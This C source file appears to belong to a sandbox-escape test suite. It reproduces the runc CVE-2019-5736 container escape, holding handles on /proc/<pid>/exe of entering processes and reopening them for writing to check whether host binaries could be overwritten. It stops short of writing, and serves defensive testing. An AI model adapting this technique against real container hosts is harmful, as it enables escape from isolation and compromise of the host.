// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * esc_exe - overwrite a host binary through /proc/<pid>/exe (runc
 * CVE-2019-5736).
 *
 * The runc attack: a process inside the container waits for the runtime to
 * enter it (`runc exec`), opens /proc/<pid>/exe of the entering process
 * before it execs (O_PATH works on a running binary), and once the runtime
 * has gone (no more ETXTBSY) reopens that handle for writing through
 * /proc/self/fd/N and replaces the host binary.
 *
 *   esc_exe direct [PATH...]   write /proc/self/exe, /proc/<pid>/exe of every
 *                              visible process, and each PATH (host binaries)
 *   esc_exe grab SECS          for SECS seconds hold an O_PATH handle on the
 *                              exe of every new process that appears (run
 *                              `vosctl exec` into this subsystem meanwhile),
 *                              then reopen every handle for writing
 *   esc_exe --control          outside any sandbox: a scratch copy of sleep(1)
 *                              is run and grabbed; reopening it must work
 *
 * Nothing is ever written: a successful open for writing is the escape.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "esc.h"

#define MAX_GRAB 128

struct grab {
	int fd;
	pid_t pid;
	dev_t dev;
	ino_t ino;
	char path[256];
};

static struct grab grabs[MAX_GRAB];
static int ngrabs;

/* pids whose exe we could not even hold a handle on (reported once each) */
#define MAX_SEEN 4096
static pid_t seen[MAX_SEEN];
static int nseen;

/* what kinds of processes came by (comm and count), for the report */
static struct {
	char comm[20];
	int n;
} kinds[32];

static void note_kind(const char *comm)
{
	int i;

	for (i = 0; i < 32 && kinds[i].n; i++)
		if (!strcmp(kinds[i].comm, comm)) {
			kinds[i].n++;
			return;
		}
	if (i < 32) {
		snprintf(kinds[i].comm, sizeof(kinds[i].comm), "%s", comm);
		kinds[i].n = 1;
	}
}

static void report_kinds(void)
{
	char buf[1024] = "";
	size_t len = 0;
	int i;

	for (i = 0; i < 32 && kinds[i].n; i++)
		len += (size_t)snprintf(buf + len, len < sizeof(buf) ? sizeof(buf) - len : 0,
					" %s(%d)", kinds[i].comm, kinds[i].n);
	esc_info("foreign processes seen:%s", buf[0] ? buf : " none");
}

static bool seen_before(pid_t pid)
{
	int i;

	for (i = 0; i < nseen; i++)
		if (seen[i] == pid)
			return true;
	if (nseen < MAX_SEEN)
		seen[nseen++] = pid;
	return false;
}

static void try_write_open(const char *label, const char *path)
{
	char what[512];
	int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);

	esc_fmt(what, sizeof(what), "open %s (%s) for writing", label, path);
	if (fd < 0) {
		esc_refused(what, errno);
		return;
	}
	esc_escaped(what, "fd %d is writable", fd);
	close(fd);
}

/* O_PATH handle, then reopen it through /proc/self/fd for writing. */
static void try_reopen(const char *label, int pathfd)
{
	char p[64];

	snprintf(p, sizeof(p), "/proc/self/fd/%d", pathfd);
	try_write_open(label, p);
}

static void note_mount(const char *label, int fd)
{
	unsigned long long id = esc_mnt_id_of_fd(fd);

	if (id && !esc_mnt_id_visible(id))
		esc_info(
			"%s lives on mount %llu, which is not in this mount namespace (the CVE-2019-5736 precondition)",
			label, id);
}

static int do_direct(int argc, char **argv)
{
	char label[128], path[64];
	struct dirent *de;
	DIR *d;
	int fd, i;

	try_write_open("own exe", "/proc/self/exe");
	fd = open("/proc/self/exe", O_PATH | O_CLOEXEC);
	if (fd >= 0) {
		try_reopen("own exe via O_PATH handle", fd);
		close(fd);
	}

	d = opendir("/proc");
	if (!d) {
		esc_refused("opendir /proc", errno);
	} else {
		while ((de = readdir(d))) {
			pid_t pid = (pid_t)strtol(de->d_name, NULL, 10);

			if (pid <= 0 || pid == getpid())
				continue;
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			snprintf(label, sizeof(label), "exe of pid %d", pid);
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0) {
				esc_refused(esc_fmt(label, sizeof(label),
						    "O_PATH handle on exe of pid %d", pid),
					    errno);
				continue;
			}
			note_mount(label, fd);
			try_write_open(label, path);
			try_reopen(label, fd);
			close(fd);
		}
		closedir(d);
	}
	for (i = 0; i < argc; i++)
		try_write_open("host binary", argv[i]);
	return esc_finish();
}

static void scan_once(dev_t self_dev, ino_t self_ino)
{
	char path[64];
	struct dirent *de;
	struct stat st;
	DIR *d = opendir("/proc");
	int fd, i;

	if (!d)
		return;
	while ((de = readdir(d)) && ngrabs < MAX_GRAB) {
		pid_t pid = (pid_t)strtol(de->d_name, NULL, 10);

		if (pid <= 0 || pid == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
		fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0) {
			int e = errno;
			char comm[32] = "?", cp[64], what[128];

			if (e == ENOENT || seen_before(pid))
				continue; /* gone, or a kernel thread */
			snprintf(cp, sizeof(cp), "/proc/%d/comm", pid);
			if (esc_read_file(cp, comm, sizeof(comm)) > 0)
				comm[strcspn(comm, "\n")] = 0;
			note_kind(comm);
			esc_refused(esc_fmt(what, sizeof(what),
					    "O_PATH handle on exe of pid %d (%s)", pid, comm),
				    e);
			continue;
		}
		if (fstat(fd, &st) < 0 || (st.st_dev == self_dev && st.st_ino == self_ino)) {
			close(fd);
			continue;
		}
		for (i = 0; i < ngrabs; i++)
			if (grabs[i].dev == st.st_dev && grabs[i].ino == st.st_ino)
				break;
		if (i < ngrabs) {
			close(fd);
			continue;
		}
		{
			char cp[64], comm[32] = "?";

			snprintf(cp, sizeof(cp), "/proc/%d/comm", pid);
			if (esc_read_file(cp, comm, sizeof(comm)) > 0)
				comm[strcspn(comm, "\n")] = 0;
			note_kind(comm);
		}
		grabs[ngrabs].fd = fd;
		grabs[ngrabs].pid = pid;
		grabs[ngrabs].dev = st.st_dev;
		grabs[ngrabs].ino = st.st_ino;
		if (readlink(path, grabs[ngrabs].path, sizeof(grabs[0].path) - 1) < 0)
			strcpy(grabs[ngrabs].path, "?");
		ngrabs++;
	}
	closedir(d);
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void grab_for(double secs)
{
	struct stat self;
	double end = now() + secs;

	if (stat("/proc/self/exe", &self) < 0)
		memset(&self, 0, sizeof(self));
	while (now() < end)
		scan_once(self.st_dev, self.st_ino);
}

static void reopen_grabs(void)
{
	char label[400];
	int i;

	report_kinds();
	esc_info("held handles on %d foreign executable(s)", ngrabs);
	for (i = 0; i < ngrabs; i++) {
		snprintf(label, sizeof(label), "exe of pid %d (%s), after it went", grabs[i].pid,
			 grabs[i].path);
		note_mount(label, grabs[i].fd);
		try_reopen(label, grabs[i].fd);
		close(grabs[i].fd);
	}
}

static int do_grab(const char *secs)
{
	double s = strtod(secs, NULL);

	if (s <= 0 || s > 600) {
		fprintf(stderr, "esc_exe grab: bad seconds '%s'\n", secs);
		return 2;
	}
	grab_for(s);
	/* let the processes we saw finish their exec or exit */
	sleep(1);
	reopen_grabs();
	return esc_finish();
}

static int copy_file(const char *src, const char *dst)
{
	char buf[65536];
	int in = open(src, O_RDONLY | O_CLOEXEC), out;
	ssize_t n;

	if (in < 0)
		return -1;
	out = open(dst, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
	if (out < 0) {
		close(in);
		return -1;
	}
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(out, buf, n) != n) {
			n = -1;
			break;
		}
	close(in);
	close(out);
	return n < 0 ? -1 : 0;
}

/* Canary: a scratch copy of sleep(1), entered like `vosctl exec` would. */
static int do_control(void)
{
	char dir[] = "/tmp/vesc-exe-XXXXXX", bin[64];
	pid_t child;
	int st;

	if (!mkdtemp(dir)) {
		perror("esc_exe: mkdtemp");
		return 2;
	}
	snprintf(bin, sizeof(bin), "%s/sleep", dir);
	if (copy_file("/bin/sleep", bin) < 0) {
		perror("esc_exe: copy /bin/sleep");
		return 2;
	}
	esc_info("control: target is a scratch copy %s", bin);
	child = fork();
	if (child == 0) {
		usleep(200000);
		execl(bin, "sleep", "0.5", (char *)NULL);
		_exit(127);
	}
	grab_for(2.5);
	waitpid(child, &st, 0);
	reopen_grabs();
	try_write_open("scratch binary", bin);
	unlink(bin);
	rmdir(dir);
	return esc_finish();
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (esc_is_control(argc, argv))
		return do_control();
	if (argc >= 2 && !strcmp(argv[1], "direct"))
		return do_direct(argc - 2, argv + 2);
	if (argc == 3 && !strcmp(argv[1], "grab"))
		return do_grab(argv[2]);
	fprintf(stderr, "usage: esc_exe direct [PATH...] | grab SECS | --control\n");
	return 2;
}
